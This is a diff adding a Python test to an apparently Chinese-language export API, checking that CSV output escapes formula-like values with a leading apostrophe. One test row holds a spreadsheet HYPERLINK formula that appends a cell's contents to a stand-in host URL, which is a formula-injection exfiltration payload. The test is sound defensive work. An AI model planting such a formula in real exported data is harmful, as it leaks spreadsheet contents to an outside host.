@@ -327,3 +327,15 @@ def test_the_api_refuses_staff_and_unknown_parameters(hall):
                       headers=boss).status_code == 422
     assert client.get("/api/v1/exports/grades", params={"mapping": "gb"},
                       headers=boss).status_code == 422
+
+
+def test_a_name_written_as_a_formula_opens_as_text_in_the_csv():
+    """A staff name or a note such as =HYPERLINK(...) or @SUM(...) would run in the
+    supervisor's Excel: the CSV gives it a leading apostrophe (the workbook keeps it text);
+    numbers, negative ones too, stay numbers."""
+    rows = [{"姓名": '=HYPERLINK("http://x.example/?"&A1,"点此")', "备注": "@SUM(1+1)",
+             "说明": "-1+2", "分钟": -1.5, "窗口": "3号窗口"}]
+    (read,) = list(csv.DictReader(io.StringIO(er.to_csv(rows).decode("utf-8-sig"))))
+    assert read["姓名"] == "'" + rows[0]["姓名"]
+    assert read["备注"] == "'@SUM(1+1)" and read["说明"] == "'-1+2"
+    assert read["分钟"] == "-1.5" and read["窗口"] == "3号窗口"
